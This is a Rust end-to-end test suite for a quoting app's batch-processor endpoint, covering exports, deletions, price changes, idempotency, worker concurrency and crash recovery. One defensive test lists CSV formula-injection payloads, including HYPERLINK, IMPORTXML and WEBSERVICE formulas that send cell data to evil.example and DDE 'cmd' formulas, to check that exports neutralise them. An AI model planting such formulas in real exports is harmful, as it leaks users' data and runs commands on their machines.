//! batch-processor through the host: every operation for real with exact counts (missing and
//! foreign ids fail with a reason), the plan gate and usage, idempotency, parallel workers and
//! a host crash with every item processed exactly once, cancel, ownership, bad input.

use e2e::{Host, HostConfig, HttpResponse, Jwt, Plan, Req, TestDb};
use serde_json::{json, Value};
use std::time::{Duration, Instant};

const PATH: &str = "/functions/v1/batch-processor";
const NOBODY: &str = "00000000-0000-4000-8000-000000000000";

/// A paid plan with bulk operations (and no quote limit) for `user`.
fn bulk_plan(db: &TestDb, user: &str) {
    db.subscribe(user, Plan { pdf_export: true, bulk_operations: true, ..Plan::unlimited() });
}

fn paid_user(db: &TestDb, email: &str) -> String {
    let user = db.user(email);
    bulk_plan(db, &user);
    user
}

fn quote(host: &Host, user: &str, client_name: &str, notes: &str) -> String {
    let r = host
        .post("/functions/v1/quote-processor")
        .bearer(&Jwt::user(user))
        .json(&json!({"client_name": client_name, "notes": notes,
                      "line_items": [{"name": "Mowing", "quantity": 2, "unit_price": "19.99"}]}))
        .send();
    assert_eq!(r.status, 201, "{}", r.text());
    r.json()["id"].as_str().unwrap().to_string()
}

fn submit(host: &Host, user: &str, body: &Value) -> HttpResponse {
    host.post(PATH).bearer(&Jwt::user(user)).json(body).send()
}

fn run(host: &Host, user: &str, job: &str) -> HttpResponse {
    host.post(&format!("{PATH}/jobs/{job}/run")).bearer(&Jwt::user(user)).send()
}

fn job(host: &Host, user: &str, job: &str) -> Value {
    let r = host.get(&format!("{PATH}/jobs/{job}")).bearer(&Jwt::user(user)).send();
    assert_eq!(r.status, 200, "{}", r.text());
    r.json()
}

fn count(db: &TestDb, sql: &str) -> i64 {
    db.client().query_one(sql, &[]).unwrap().get(0)
}

fn reasons(job: &Value) -> Vec<(String, String)> {
    job["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| (e["item"].as_str().unwrap_or("").to_string(), e["error"].as_str().unwrap().to_string()))
        .collect()
}

/// RFC 4180: fields separated by commas, records by CRLF, quoted fields with doubled quotes.
fn parse_csv(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let mut chars = text.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => {
                assert!(c != '"' && c != '\n' && c != '\r', "unquoted special character in CSV: {text:?}");
                field.push(c)
            }
        }
    }
    assert!(!quoted && field.is_empty() && row.is_empty(), "CSV must end with CRLF: {text:?}");
    rows
}

#[test]
fn quote_statuses_change_and_missing_or_foreign_ids_fail_with_reasons() {
    let db = TestDb::new();
    let (user, other) = (paid_user(&db, "bulk@example.test"), paid_user(&db, "other@example.test"));
    let host = Host::start(HostConfig::app(&db));
    let mine: Vec<String> = (0..3).map(|i| quote(&host, &user, &format!("Client {i}"), "")).collect();
    let theirs = quote(&host, &other, "Not yours", "");
    let mut items: Vec<&str> = mine.iter().map(String::as_str).collect();
    items.extend([theirs.as_str(), NOBODY]);
    let r = submit(
        &host,
        &user,
        &json!({"operation": "update_quote_status", "items": items, "options": {"status": "sent"}}),
    );
    assert_eq!(r.status, 200, "{}", r.text());
    let j = r.json();
    assert_eq!(
        (j["status"].as_str(), j["processed_items"].as_i64(), j["failed_items"].as_i64()),
        (Some("completed"), Some(3), Some(2))
    );
    assert_eq!(j["progress_percent"], 100.0);
    let errs = reasons(&j);
    assert_eq!(errs.len(), 2);
    assert!(errs.iter().any(|(id, e)| id == &theirs && e.starts_with("not_found")), "{errs:?}");
    assert!(errs.iter().any(|(id, e)| id == NOBODY && e.starts_with("not_found")), "{errs:?}");
    assert_eq!(count(&db, "SELECT count(*) FROM quotes WHERE status = 'sent' AND sent_at IS NOT NULL"), 3);
    assert_eq!(count(&db, &format!("SELECT count(*) FROM quotes WHERE id = '{theirs}' AND status = 'draft'")), 1);
    // An illegal move fails that item with the reason; a legal one in the same job goes through.
    let r = submit(
        &host,
        &user,
        &json!({"operation": "update_quote_status", "items": [mine[0], mine[1]], "options": {"status": "draft"}}),
    );
    let j = r.json();
    assert_eq!(
        (j["processed_items"].as_i64(), j["failed_items"].as_i64(), j["status"].as_str()),
        (Some(0), Some(2), Some("failed"))
    );
    assert!(reasons(&j)[0].1.starts_with("illegal_transition"), "{j}");
    // Usage: one per job.
    assert_eq!(count(&db, &format!("SELECT bulk_operations_count::bigint FROM get_current_usage('{user}')")), 2);
}

#[test]
fn quotes_and_clients_are_deleted_with_exact_counts() {
    let db = TestDb::new();
    let (user, other) = (paid_user(&db, "bulk@example.test"), paid_user(&db, "other@example.test"));
    let host = Host::start(HostConfig::app(&db));
    let a = quote(&host, &user, "A", "");
    let b = quote(&host, &user, "B", "");
    let foreign = quote(&host, &other, "C", "");
    let j = submit(&host, &user, &json!({"operation": "delete_quotes", "items": [a, b, foreign, NOBODY]})).json();
    assert_eq!((j["processed_items"].as_i64(), j["failed_items"].as_i64()), (Some(2), Some(2)), "{j}");
    assert_eq!(count(&db, "SELECT count(*) FROM quotes"), 1);

    let ids: Vec<String> = db
        .client()
        .query(
            &format!("INSERT INTO clients (user_id, name) VALUES ('{user}', 'X'), ('{user}', 'Y'), ('{other}', 'Z') RETURNING id::text"),
            &[],
        )
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    let j =
        submit(&host, &user, &json!({"operation": "delete_clients", "items": [ids[0], ids[1], ids[2], NOBODY]})).json();
    assert_eq!((j["processed_items"].as_i64(), j["failed_items"].as_i64()), (Some(2), Some(2)), "{j}");
    assert_eq!(count(&db, &format!("SELECT count(*) FROM clients WHERE user_id = '{other}'")), 1);
    assert_eq!(count(&db, &format!("SELECT count(*) FROM clients WHERE user_id = '{user}'")), 0);
}

#[test]
fn exports_download_as_rfc4180_csv_and_json() {
    let db = TestDb::new();
    let (user, other) = (paid_user(&db, "bulk@example.test"), paid_user(&db, "other@example.test"));
    let host = Host::start(HostConfig::app(&db));
    let tricky = quote(&host, &user, "Smith, \"Bob\" & Sons", "line one\nline two, with comma");
    let plain = quote(&host, &user, "Plain", "");
    let foreign = quote(&host, &other, "Hidden", "");
    let r = host
        .post("/functions/v1/quote-processor")
        .bearer(&Jwt::user(&user))
        .json(&json!({"client_name": "Dinar", "currency": "KWD",
                      "line_items": [{"name": "Tiles", "quantity": 3, "unit_price": "1.235"}]}))
        .send();
    assert_eq!(r.status, 201, "{}", r.text());
    let dinar = r.json()["id"].as_str().unwrap().to_string();
    let j = submit(
        &host,
        &user,
        &json!({"operation": "export_quotes", "items": [tricky, foreign, plain, dinar], "options": {"format": "csv"}}),
    )
    .json();
    assert_eq!((j["processed_items"].as_i64(), j["failed_items"].as_i64()), (Some(3), Some(1)), "{j}");
    let id = j["id"].as_str().unwrap();
    let r = host.get(&format!("{PATH}/jobs/{id}/download")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 200, "{}", r.text());
    assert!(r.header("content-type").unwrap().starts_with("text/csv"));
    assert!(r.header("content-disposition").unwrap().contains("attachment; filename="));
    let rows = parse_csv(&r.text());
    assert_eq!(rows.len(), 4, "header + one row per exported quote");
    let col = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    assert_eq!(rows[1][col("id")], tricky);
    assert_eq!(rows[1][col("client_name")], "Smith, \"Bob\" & Sons");
    assert_eq!(rows[1][col("notes")], "line one\nline two, with comma");
    assert_eq!((rows[1][col("currency")].as_str(), rows[1][col("total")].as_str()), ("USD", "39.98"));
    assert_eq!(rows[2][col("id")], plain);
    // Each row names the currency of its amounts, just before them.
    assert_eq!(col("currency") + 1, col("subtotal"));
    assert_eq!(rows[3][col("id")], dinar);
    assert_eq!((rows[3][col("currency")].as_str(), rows[3][col("total")].as_str()), ("KWD", "3.705"));
    assert!(!r.text().contains("Hidden"));
    let r = host.get(&format!("{PATH}/jobs/{id}/download?format=json")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 200);
    let v = r.json();
    assert_eq!(v["count"], 3);
    assert_eq!(v["quotes"][2]["currency"], "KWD");
    assert_eq!(v["quotes"][0]["client_name"], "Smith, \"Bob\" & Sons");
    // Someone else cannot download it.
    let r = host.get(&format!("{PATH}/jobs/{id}/download")).bearer(&Jwt::user(&other)).send();
    assert_eq!(r.status, 404);
}

/// Formula payloads (OWASP's CSV injection page, public cheat sheets): each must reach a
/// spreadsheet as text.
const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&C2&E2,\"Error: click to fix\")",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", CONCATENATE(A2:E2)), \"//a\")",
    "=WEBSERVICE(\"http://evil.example/\"&A2)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
];

#[test]
fn exported_csv_cells_never_start_a_formula() {
    let db = TestDb::new();
    let user = paid_user(&db, "export@example.test");
    let host = Host::start(HostConfig::app(&db));
    // Whatever path wrote them (an import, an older version, the API with detection off), the
    // stored texts are the payloads.
    let ids: Vec<String> = FORMULAS.iter().map(|_| quote(&host, &user, "placeholder", "")).collect();
    let mut c = db.client();
    for (id, payload) in ids.iter().zip(FORMULAS) {
        c.execute(
            "UPDATE quotes SET client_name = $2, notes = $2, client_email = $2, client_phone = '+15035550142'
             WHERE id = $1::text::uuid",
            &[id, payload],
        )
        .unwrap();
    }
    let items: Vec<&str> = ids.iter().map(String::as_str).collect();
    let j = submit(&host, &user, &json!({"operation": "export_quotes", "items": items, "options": {"format": "csv"}}))
        .json();
    assert_eq!(j["processed_items"].as_i64(), Some(FORMULAS.len() as i64), "{j}");
    let id = j["id"].as_str().unwrap();
    let r = host.get(&format!("{PATH}/jobs/{id}/download")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 200, "{}", r.text());
    let rows = parse_csv(&r.text());
    assert_eq!(rows.len(), FORMULAS.len() + 1);
    let col = |name: &str| rows[0].iter().position(|c| c == name).unwrap();
    for (row, payload) in rows[1..].iter().zip(FORMULAS) {
        for cell in row {
            let runs = cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                || cell.trim_start().starts_with(['=', '+', '-', '@']);
            assert!(!runs || cell == "+15035550142", "a spreadsheet would run {cell:?}");
        }
        for name in ["client_name", "notes", "client_email"] {
            assert_eq!(row[col(name)], format!("'{payload}"), "{name}");
        }
        assert_eq!(row[col("client_phone")], "+15035550142", "a number stays a number");
        assert_eq!(row[col("total")], "39.98");
    }
    // The JSON export is data, not a sheet: the texts as stored.
    let r = host.get(&format!("{PATH}/jobs/{id}/download?format=json")).bearer(&Jwt::user(&user)).send();
    let v = r.json();
    assert_eq!(v["quotes"][0]["client_name"], FORMULAS[0]);
}

#[test]
fn item_prices_change_by_percentage_or_fixed_in_cents_never_below_zero() {
    let db = TestDb::new();
    let (user, other) = (paid_user(&db, "bulk@example.test"), paid_user(&db, "other@example.test"));
    let host = Host::start(HostConfig::app(&db));
    let ids: Vec<String> = db
        .client()
        .query(
            &format!(
                "INSERT INTO line_items (user_id, name, cost) VALUES ('{user}', 'a', 10.05), ('{user}', 'b', 0.99),
                   ('{other}', 'c', 50) RETURNING id::text"
            ),
            &[],
        )
        .unwrap()
        .iter()
        .map(|r| r.get(0))
        .collect();
    let cost = |id: &str| -> String {
        db.client().query_one(&format!("SELECT cost::text FROM line_items WHERE id = '{id}'"), &[]).unwrap().get(0)
    };
    let body = json!({"operation": "update_item_prices", "items": [ids[0], ids[1], ids[2]],
                      "options": {"price_adjustment": {"type": "percentage", "value": 10}}});
    let j = submit(&host, &user, &body).json();
    assert_eq!((j["processed_items"].as_i64(), j["failed_items"].as_i64()), (Some(2), Some(1)), "{j}");
    assert_eq!(cost(&ids[0]), "11.06"); // 11.055 → half away from zero
    assert_eq!(cost(&ids[1]), "1.09"); // 1.089
    assert_eq!(cost(&ids[2]), "50.00"); // not the caller's
    let body = json!({"operation": "update_item_prices", "items": [ids[0], ids[1]],
                      "options": {"price_adjustment": {"type": "fixed", "value": "-5.5"}}});
    let j = submit(&host, &user, &body).json();
    assert_eq!(j["processed_items"], 2, "{j}");
    assert_eq!((cost(&ids[0]), cost(&ids[1])), ("5.56".to_string(), "0.00".to_string()));
    let body = json!({"operation": "update_item_prices", "items": [ids[0]],
                      "options": {"price_adjustment": {"type": "percentage", "value": "-12.5"}}});
    assert_eq!(submit(&host, &user, &body).json()["processed_items"], 1);
    assert_eq!(cost(&ids[0]), "4.87"); // 5.56 × 0.875 = 4.865 → 4.87
}

#[test]
fn a_free_user_gets_402_and_no_job_is_created() {
    let db = TestDb::new();
    let user = db.user("free@example.test");
    let host = Host::start(HostConfig::app(&db));
    let r = submit(&host, &user, &json!({"operation": "delete_quotes", "items": [NOBODY]}));
    assert_eq!(r.status, 402, "{}", r.text());
    assert_eq!(r.json()["code"], "plan_upgrade_required");
    assert_eq!(count(&db, "SELECT count(*) FROM batch_jobs"), 0);
    assert_eq!(count(&db, &format!("SELECT bulk_operations_count::bigint FROM get_current_usage('{user}')")), 0);
}

#[test]
fn the_same_idempotency_key_returns_the_existing_job() {
    let db = TestDb::new();
    let user = paid_user(&db, "bulk@example.test");
    let host = Host::start(HostConfig::app(&db));
    let body = json!({"operation": "bulk_create_items", "idempotency_key": "import-42",
                      "items": [{"name": "Mulch", "unit": "bag", "cost": "4.50", "category": "materials"}]});
    let first = submit(&host, &user, &body);
    assert_eq!(first.status, 200, "{}", first.text());
    let second = submit(&host, &user, &body);
    assert_eq!(second.status, 200, "{}", second.text());
    assert_eq!(second.json()["id"], first.json()["id"]);
    assert_eq!(second.json()["idempotent_replay"], true);
    // The header form names the same job; the same key for a different request is refused.
    let mut headerless = body.clone();
    headerless.as_object_mut().unwrap().remove("idempotency_key");
    let r = host.post(PATH).bearer(&Jwt::user(&user)).header("idempotency-key", "import-42").json(&headerless).send();
    assert_eq!(r.json()["id"], first.json()["id"]);
    let other = json!({"operation": "bulk_create_items", "idempotency_key": "import-42", "items": [{"name": "Gravel", "cost": 1}]});
    let r = submit(&host, &user, &other);
    assert_eq!((r.status, r.json()["code"].as_str()), (409, Some("idempotency_key_reused")), "{}", r.text());
    assert_eq!(count(&db, "SELECT count(*) FROM batch_jobs"), 1);
    assert_eq!(count(&db, "SELECT count(*) FROM line_items WHERE name = 'Mulch' AND cost = 4.50 AND unit = 'bag'"), 1);
    assert_eq!(count(&db, &format!("SELECT bulk_operations_count::bigint FROM get_current_usage('{user}')")), 1);
}

fn thousand_items() -> Value {
    let items: Vec<Value> =
        (0..1000).map(|i| json!({"name": format!("item-{i:04}"), "cost": format!("{}.{:02}", i, i % 100)})).collect();
    json!({"operation": "bulk_create_items", "items": items})
}

/// Call `run` until the job is no longer pending or running; the items this caller processed.
fn drive(base: &str, user: &str, job: &str, deadline: Duration) -> i64 {
    let started = Instant::now();
    let mut mine = 0;
    loop {
        let r = Req::new("POST", &format!("{base}{PATH}/jobs/{job}/run"))
            .bearer(&Jwt::user(user))
            .timeout(Duration::from_secs(60))
            .send();
        assert!(r.status == 200 || r.status == 503, "{} {}", r.status, r.text());
        if r.status == 200 {
            let v = r.json();
            mine += v["processed_this_run"].as_i64().unwrap();
            if v["status"] != "pending" && v["status"] != "running" {
                return mine;
            }
        }
        assert!(started.elapsed() < deadline, "job did not finish in time");
    }
}

fn assert_created_exactly_once(db: &TestDb, job: &str) {
    assert_eq!(
        count(db, &format!("SELECT count(*) FROM batch_job_items WHERE job_id = '{job}' AND status = 'processed'")),
        1000
    );
    assert_eq!(count(db, "SELECT count(*) FROM line_items"), 1000);
    assert_eq!(count(db, "SELECT count(DISTINCT name) FROM line_items"), 1000);
    let row = db
        .client()
        .query_one(&format!("SELECT status, processed_items, failed_items FROM batch_jobs WHERE id = '{job}'"), &[])
        .unwrap();
    assert_eq!(
        (row.get::<_, String>(0), row.get::<_, i32>(1), row.get::<_, i32>(2)),
        ("completed".to_string(), 1000, 0)
    );
}

#[test]
fn four_parallel_workers_process_every_item_of_a_large_job_exactly_once() {
    let db = TestDb::new();
    let user = paid_user(&db, "bulk@example.test");
    let host = Host::start(HostConfig::app(&db));
    let r = submit(&host, &user, &thousand_items());
    assert_eq!(r.status, 202, "{}", r.text());
    let id = r.json()["id"].as_str().unwrap().to_string();
    assert_eq!(r.json()["status"], "pending");
    let workers: Vec<_> = (0..4)
        .map(|_| {
            let (base, user, id) = (host.base.clone(), user.clone(), id.clone());
            std::thread::spawn(move || drive(&base, &user, &id, Duration::from_secs(240)))
        })
        .collect();
    let per_worker: Vec<i64> = workers.into_iter().map(|w| w.join().unwrap()).collect();
    assert_eq!(per_worker.iter().sum::<i64>(), 1000, "{per_worker:?}");
    assert!(per_worker.iter().filter(|n| **n > 0).count() >= 2, "the workers did not share the job: {per_worker:?}");
    assert_created_exactly_once(&db, &id);
    let j = job(&host, &user, &id);
    assert_eq!((j["status"].as_str(), j["progress_percent"].as_f64()), (Some("completed"), Some(100.0)));
    // A job is listed for its owner.
    let list = host.get(&format!("{PATH}/jobs")).bearer(&Jwt::user(&user)).send().json();
    assert_eq!(list["jobs"][0]["id"], id.as_str());
    assert_eq!(list["total"], 1);
}

#[test]
fn a_job_survives_a_crash_of_the_host() {
    let db = TestDb::new();
    let user = paid_user(&db, "bulk@example.test");
    let host = Host::start(HostConfig::app(&db));
    let id = submit(&host, &user, &thousand_items()).json()["id"].as_str().unwrap().to_string();
    let (base, u, j) = (host.base.clone(), user.clone(), id.clone());
    let worker = std::thread::spawn(move || {
        // Runs until the host dies under it.
        while Req::new("POST", &format!("{base}{PATH}/jobs/{j}/run")).bearer(&Jwt::user(&u)).try_send().is_ok() {}
    });
    let started = Instant::now();
    while count(&db, &format!("SELECT count(*) FROM batch_job_items WHERE job_id = '{id}' AND status = 'processed'"))
        < 100
    {
        assert!(started.elapsed() < Duration::from_secs(120), "no progress before the crash");
        std::thread::sleep(Duration::from_millis(5));
    }
    drop(host); // kill -9, most likely in the middle of a chunk
    worker.join().unwrap();
    let done =
        count(&db, &format!("SELECT count(*) FROM batch_job_items WHERE job_id = '{id}' AND status <> 'pending'"));
    assert!(done < 1000, "the crash came too late to test anything");
    // What was committed is consistent: every processed item created exactly one row.
    assert_eq!(count(&db, "SELECT count(*) FROM line_items"), done);
    let host = Host::start(HostConfig::app(&db));
    drive(&host.base, &user, &id, Duration::from_secs(240));
    assert_created_exactly_once(&db, &id);
}

#[test]
fn a_cancelled_job_stops_between_chunks() {
    let db = TestDb::new();
    let user = paid_user(&db, "bulk@example.test");
    let host = Host::start(HostConfig::app(&db));
    let id = submit(&host, &user, &thousand_items()).json()["id"].as_str().unwrap().to_string();
    let r = host.post(&format!("{PATH}/jobs/{id}/cancel")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.json()["status"], "cancelled");
    assert_eq!(r.json()["cancelled_items"], 1000);
    let r = run(&host, &user, &id);
    assert_eq!(r.status, 200);
    assert_eq!(r.json()["processed_this_run"], 0);
    assert_eq!(count(&db, "SELECT count(*) FROM line_items"), 0);
    let r = host.post(&format!("{PATH}/jobs/{id}/cancel")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 409);
}

#[test]
fn another_users_job_is_404() {
    let db = TestDb::new();
    let (user, other) = (paid_user(&db, "bulk@example.test"), paid_user(&db, "other@example.test"));
    let host = Host::start(HostConfig::app(&db));
    let id = submit(&host, &user, &thousand_items()).json()["id"].as_str().unwrap().to_string();
    let t = Jwt::user(&other);
    assert_eq!(host.get(&format!("{PATH}/jobs/{id}")).bearer(&t).send().status, 404);
    assert_eq!(host.post(&format!("{PATH}/jobs/{id}/run")).bearer(&t).send().status, 404);
    assert_eq!(host.post(&format!("{PATH}/jobs/{id}/cancel")).bearer(&t).send().status, 404);
    assert_eq!(host.get(&format!("{PATH}/jobs/{id}/download")).bearer(&t).send().status, 404);
    assert_eq!(host.get(&format!("{PATH}/jobs")).bearer(&t).send().json()["total"], 0);
    assert_eq!(count(&db, "SELECT count(*) FROM line_items"), 0);
    assert_eq!(job(&host, &user, &id)["status"], "pending");
}

#[test]
fn bad_input_is_a_400_listing_every_problem_and_creates_no_job() {
    let db = TestDb::new();
    let user = paid_user(&db, "bulk@example.test");
    let host = Host::start(HostConfig::app(&db));
    let too_many: Vec<String> = (0..1001).map(|i| format!("00000000-0000-4000-8000-{i:012}")).collect();
    let cases: Vec<(Value, Vec<&str>)> = vec![
        (json!({"operation": "delete_quotes", "items": ["not-a-uuid", NOBODY, NOBODY]}), vec!["items[0]", "items[2]"]),
        (json!({"operation": "delete_quotes", "items": too_many}), vec!["items"]),
        (json!({"operation": "explode", "items": [NOBODY]}), vec!["operation"]),
        (json!({"items": [NOBODY]}), vec!["operation"]),
        (json!({"operation": "update_quote_status", "items": [NOBODY]}), vec!["options.status"]),
        (
            json!({"operation": "update_quote_status", "items": [NOBODY], "options": {"status": 5}}),
            vec!["options.status"],
        ),
        (
            json!({"operation": "update_quote_status", "items": [NOBODY], "options": {"status": "paid"}}),
            vec!["options.status"],
        ),
        (
            json!({"operation": "export_quotes", "items": [NOBODY], "options": {"format": "xls"}}),
            vec!["options.format"],
        ),
        (
            json!({"operation": "update_item_prices", "items": [NOBODY], "options": {"price_adjustment": {"type": "percent", "value": "x"}}}),
            vec!["options.price_adjustment.type"],
        ),
        (
            json!({"operation": "update_item_prices", "items": [NOBODY], "options": {"price_adjustment": {"type": "fixed", "value": "1.234"}}}),
            vec!["options.price_adjustment.value"],
        ),
        (
            json!({"operation": "bulk_create_items", "items": [{"name": "", "cost": "-1"}, {"name": "ok", "cost": "1.001", "x": 1}]}),
            vec!["items[0].name", "items[0].cost", "items[1].cost", "items[1].x"],
        ),
        (json!({"operation": "delete_quotes", "items": [], "options": []}), vec!["items", "options"]),
    ];
    for (body, fields) in cases {
        let r = submit(&host, &user, &body);
        assert_eq!(r.status, 400, "{body}: {}", r.text());
        let v = r.json();
        assert_eq!(v["code"], "validation_failed");
        let got: Vec<&str> = v["errors"].as_array().unwrap().iter().map(|e| e["field"].as_str().unwrap()).collect();
        for f in &fields {
            assert!(got.contains(f), "{body}: expected an error on {f}, got {got:?}");
        }
    }
    assert_eq!(count(&db, "SELECT count(*) FROM batch_jobs"), 0);
    assert_eq!(host.get(&format!("{PATH}/jobs/not-a-uuid")).bearer(&Jwt::user(&user)).send().status, 400);
}

#[test]
fn generate_pdfs_renders_through_quote_pdf_generator_and_the_pdf_downloads() {
    let db = TestDb::new();
    let (user, other) = (paid_user(&db, "bulk@example.test"), paid_user(&db, "other@example.test"));
    let host = Host::start(HostConfig::app(&db));
    let foreign = quote(&host, &other, "Hidden", "");
    let j = submit(&host, &user, &json!({"operation": "generate_pdfs", "items": [foreign, NOBODY]})).json();
    assert_eq!((j["processed_items"].as_i64(), j["failed_items"].as_i64()), (Some(0), Some(2)), "{j}");
    assert_eq!(count(&db, "SELECT count(*) FROM quote_documents"), 0);
    let mine = quote(&host, &user, "Mine", "");
    let j = submit(&host, &user, &json!({"operation": "generate_pdfs", "items": [mine, foreign]})).json();
    assert_eq!((j["processed_items"].as_i64(), j["failed_items"].as_i64()), (Some(1), Some(1)), "{j}");
    let id = j["id"].as_str().unwrap();
    let r = host.get(&format!("{PATH}/jobs/{id}/download?quote_id={mine}")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 200, "{}", r.text());
    assert_eq!(r.header("content-type"), Some("application/pdf"));
    assert!(r.body.starts_with(b"%PDF"));
    let r = host.get(&format!("{PATH}/jobs/{id}/download?quote_id={foreign}")).bearer(&Jwt::user(&user)).send();
    assert_eq!(r.status, 404);
}
